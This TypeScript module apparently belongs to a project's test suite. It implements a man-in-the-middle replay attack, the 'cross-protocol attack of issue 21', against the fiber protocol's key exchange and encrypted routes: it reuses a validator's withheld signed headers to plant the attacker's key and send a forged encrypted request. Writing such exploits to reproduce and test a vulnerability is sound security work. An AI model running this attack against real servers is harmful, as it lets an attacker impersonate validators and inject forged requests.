/**
 * The cross-protocol attack of issue 21 as a man in the middle runs it: he holds back two
 * signed requests of a validator with the same body, replays the first one's headers to
 * the key exchange (uuid = the body's hash, a key of his own), then the second one's to an
 * encrypted route, with a body encrypted under his key.
 */
import { randomBytes, toBase64 } from "../../src/common/bytes.js";
import { encryptRSA } from "../../src/rsa/index.js";
import { EXCHANGE_PATH, PUBLIC_KEY_PATH, RSA_OAEP_HASH, SYMMETRIC_KEY_UUID_HEADER } from "../../src/fiber/constants.js";
import { Fernet } from "../../src/fiber/fernet.js";
import type { Keypair } from "../../src/fiber/keypair.js";
import { bodyHash, signedRequestHeaders } from "../../src/fiber/signed.js";

/** Sends one request to the miner (`fetch` on a URL, or a `FiberServer.fetch`). */
export type Send = (path: string, init: RequestInit) => Promise<Response>;

/** What each step of the attack got. */
export interface AttackResult {
  /** Status of the forged key exchange (200: the miner stored the attacker's key). */
  exchange: number;
  /** Status of the forged encrypted request (200: accepted as the validator). */
  encrypted: number;
  /** Its answer. */
  answer: unknown;
}

/** A sender to the miner at `url`. */
export function sendTo(url: string): Send {
  return (path, init) => fetch(`${url}${path}`, init);
}

/**
 * Runs the attack against the miner behind `send`, as `validator`'s requests to
 * `minerHotkey`, with the encrypted route `path`.
 */
export async function crossProtocolAttack(send: Send, validator: Keypair, minerHotkey: string, path = "/echo"): Promise<AttackResult> {
  const body = JSON.stringify({ hello: "miner" });
  // The validator's two signed requests, held back: never delivered, so their nonces stay fresh.
  const first = await signedRequestHeaders(validator, minerHotkey, body);
  const second = await signedRequestHeaders(validator, minerHotkey, body);
  const uuid = await bodyHash(body);
  const key = randomBytes(32);
  const published = await send(PUBLIC_KEY_PATH, { method: "GET" });
  const publicKey = published.status === 200 ? ((await published.json()) as { public_key: string }).public_key : undefined;
  if (publicKey === undefined) await published.body?.cancel();
  const encryptedKey = publicKey === undefined ? randomBytes(256) : await encryptRSA(publicKey, key, { hash: RSA_OAEP_HASH });
  const exchanged = await send(EXCHANGE_PATH, {
    method: "POST",
    headers: { ...first, [SYMMETRIC_KEY_UUID_HEADER]: uuid },
    body: JSON.stringify({ encrypted_symmetric_key: toBase64(encryptedKey) }),
  });
  await exchanged.body?.cancel();
  const token = await (await Fernet.create(key)).encrypt(JSON.stringify({ forged: "by the man in the middle" }));
  const forged = await send(path, { method: "POST", headers: { ...second, [SYMMETRIC_KEY_UUID_HEADER]: uuid, "content-type": "application/json" }, body: token });
  const text = await forged.text();
  let answer: unknown = text;
  try {
    answer = JSON.parse(text);
  } catch {
    // not JSON: keep the text
  }
  return { exchange: exchanged.status, encrypted: forged.status, answer };
}
